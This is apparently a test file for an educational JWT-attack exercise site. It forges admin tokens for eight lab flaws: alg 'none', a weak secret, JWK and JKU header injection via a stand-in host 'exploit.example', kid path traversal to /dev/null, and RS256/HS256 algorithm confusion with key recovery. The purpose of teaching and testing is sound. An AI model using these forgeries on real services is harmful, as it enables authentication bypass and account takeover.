import { createHmac, createPublicKey, generateKeyPairSync } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import jwt from 'jsonwebtoken';
import {
  ADMIN,
  checkExercise,
  EXERCISES,
  publish,
  type Exercise,
  type ExerciseWorld,
} from '../../../src/lib/exercises';
import { recoverRsaKey } from '../../../src/lib/attacks';

// Each solution is forged with node:crypto and node-jsonwebtoken, not with the page's engine.
const NOW = Math.floor(Date.now() / 1000);
const b64 = (value: string | Buffer) => Buffer.from(value).toString('base64url');
const parts = (token: string) => token.split('.') as [string, string, string];
const claimsOf = (token: string) =>
  JSON.parse(Buffer.from(parts(token)[1], 'base64url').toString());
const adminClaims = (token: string) => ({ ...claimsOf(token), sub: ADMIN });
const hs256 = (header: object, claims: object, key: string | Buffer) => {
  const input = `${b64(JSON.stringify(header))}.${b64(JSON.stringify(claims))}`;
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`;
};
const attacker = generateKeyPairSync('rsa', { modulusLength: 2048 });
const attackerJwk = { ...attacker.publicKey.export({ format: 'jwk' }), kid: 'attacker' };
const JKU = 'https://exploit.example/jwks.json';
const withSub = (token: string, sub: string) => {
  const [h, , s] = parts(token);
  return `${h}.${b64(JSON.stringify({ ...claimsOf(token), sub }))}.${s}`;
};

interface Case {
  solve(world: ExerciseWorld): Promise<string> | string;
  /** A token of the same attack that the flawed server refuses. */
  refused(world: ExerciseWorld): Promise<string> | string;
}

const CASES: Record<string, Case> = {
  'unverified-signature': {
    solve: (w) => withSub(w.token, ADMIN),
    refused: (w) => `${parts(w.token)[0]}.bm90IGpzb24.${parts(w.token)[2]}`,
  },
  'flawed-verification': {
    solve: (w) =>
      `${b64('{"alg":"none","typ":"JWT"}')}.${b64(JSON.stringify(adminClaims(w.token)))}.`,
    refused: (w) => withSub(w.token, ADMIN),
  },
  'weak-key': {
    solve: (w) => jwt.sign(adminClaims(w.token), 'secret1', { noTimestamp: true }),
    refused: (w) => jwt.sign(adminClaims(w.token), 'secret2', { noTimestamp: true }),
  },
  'jwk-injection': {
    solve: (w) =>
      jwt.sign(adminClaims(w.token), attacker.privateKey, {
        algorithm: 'RS256',
        noTimestamp: true,
        header: { alg: 'RS256', jwk: attackerJwk } as jwt.JwtHeader,
      }),
    // The embedded key is not the one that signed.
    refused: (w) =>
      jwt.sign(
        adminClaims(w.token),
        generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey,
        {
          algorithm: 'RS256',
          noTimestamp: true,
          header: { alg: 'RS256', jwk: attackerJwk } as jwt.JwtHeader,
        },
      ),
  },
  'jku-injection': {
    solve: (w) =>
      jwt.sign(adminClaims(w.token), attacker.privateKey, {
        algorithm: 'RS256',
        noTimestamp: true,
        header: { alg: 'RS256', jku: JKU, kid: 'attacker' } as jwt.JwtHeader,
      }),
    // Published nowhere the server looks.
    refused: (w) =>
      jwt.sign(adminClaims(w.token), attacker.privateKey, {
        algorithm: 'RS256',
        noTimestamp: true,
        header: { alg: 'RS256', jku: `${JKU}?other`, kid: 'attacker' } as jwt.JwtHeader,
      }),
  },
  'kid-path-traversal': {
    // An empty HMAC key is the same as one zero byte (RFC 2104 pads keys with zeros).
    solve: (w) =>
      hs256(
        { alg: 'HS256', kid: '../../../../../../../dev/null' },
        adminClaims(w.token),
        Buffer.alloc(1),
      ),
    refused: (w) =>
      hs256({ alg: 'HS256', kid: '../../../../etc/passwd' }, adminClaims(w.token), Buffer.alloc(1)),
  },
  'algorithm-confusion': {
    solve: (w) => {
      const jwk = JSON.parse(w.exposedKey!).keys[0];
      const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({
        type: 'spki',
        format: 'pem',
      });
      return hs256({ alg: 'HS256', typ: 'JWT' }, adminClaims(w.token), pem as string);
    },
    // The PEM without its final newline is not the text the server holds.
    refused: (w) => {
      const jwk = JSON.parse(w.exposedKey!).keys[0];
      const pem = createPublicKey({ key: jwk, format: 'jwk' }).export({
        type: 'spki',
        format: 'pem',
      });
      return hs256({ alg: 'HS256', typ: 'JWT' }, adminClaims(w.token), (pem as string).trimEnd());
    },
  },
  'algorithm-confusion-no-key': {
    async solve(w) {
      const recovered = await recoverRsaKey(w.token, w.secondToken!);
      if (!recovered.ok) throw recovered.error;
      return hs256({ alg: 'HS256', typ: 'JWT' }, adminClaims(w.token), `${recovered.value.pem}\n`);
    },
    refused: (w) => hs256({ alg: 'HS256', typ: 'JWT' }, adminClaims(w.token), 'not the key'),
  },
};

async function world(exercise: Exercise) {
  return exercise.setup(NOW);
}

describe('EXERCISES', () => {
  it('covers the eight PortSwigger JWT lab themes, numbered 1 to 8', () => {
    expect(EXERCISES.map((e) => e.n)).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
    expect(Object.keys(CASES).sort()).toEqual(EXERCISES.map((e) => e.id).sort());
    for (const e of EXERCISES) {
      expect(e.hints.length).toBeGreaterThanOrEqual(2);
      expect(e.flaw).not.toBe('');
    }
  });

  describe.each(EXERCISES.map((e) => [e.id, e] as const))('%s', (id, exercise) => {
    const host = publish(new Map(), JKU, JSON.stringify({ keys: [attackerJwk] }));
    if (!host.ok) throw host.error;

    it('is solved by the attack', async () => {
      const w = await world(exercise);
      const check = await checkExercise(exercise, w, await CASES[id]!.solve(w), host.value);
      expect(check.message).toMatch(/^Solved/);
      expect(check).toMatchObject({ solved: true, admin: true });
      expect(check.flawed.accepted).toBe(true);
      expect(check.correct.accepted).toBe(false);
    });

    it('is not solved by a token the flawed server refuses', async () => {
      const w = await world(exercise);
      const check = await checkExercise(exercise, w, await CASES[id]!.refused(w), host.value);
      expect(check.flawed.accepted).toBe(false);
      expect(check.solved).toBe(false);
      expect(check.message).toMatch(/^Refused: /);
    });

    it('is not solved by the learner\u2019s own token, which both servers accept', async () => {
      const w = await world(exercise);
      const check = await checkExercise(exercise, w, w.token, host.value);
      expect(check).toMatchObject({ solved: false, admin: false });
      expect(check.flawed.accepted).toBe(true);
    });
  });

  it('does not count a token the correct verifier accepts too (the weak key, known)', async () => {
    const exercise = EXERCISES.find((e) => e.id === 'weak-key')!;
    const w = await world(exercise);
    const check = await checkExercise(
      exercise,
      { ...w, correctKey: 'secret1' },
      CASES['weak-key']!.solve(w) as string,
    );
    expect(check.solved).toBe(false);
    expect(check.message).toContain('a correct verifier accepts this token too');
  });
});

describe('publish', () => {
  it.each([
    ['http://exploit.example/a', '{}', 'ERR_ATTACK_INPUT', 'https URLs'],
    ['not a url', '{}', 'ERR_ATTACK_INPUT', 'is not a URL'],
    [JKU, 'x'.repeat(16 * 1024 + 1), 'ERR_INPUT_TOO_LARGE', 'takes up to 16384'],
  ])('refuses %s', (url, body, code, message) => {
    const result = publish(new Map(), url, body);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.code).toBe(code);
    expect(result.error.message).toContain(message);
  });

  it('holds at most eight files, and replaces a file at the same URL', () => {
    let host = new Map<string, string>();
    for (let i = 0; i < 8; i++) {
      const next = publish(host, `${JKU}?${i}`, String(i));
      if (!next.ok) throw next.error;
      host = next.value;
    }
    expect(publish(host, `${JKU}?0`, 'again').ok).toBe(true);
    const full = publish(host, `${JKU}?9`, '9');
    expect(full.ok || full.error.code).toBe('ERR_INPUT_TOO_LARGE');
  });
});
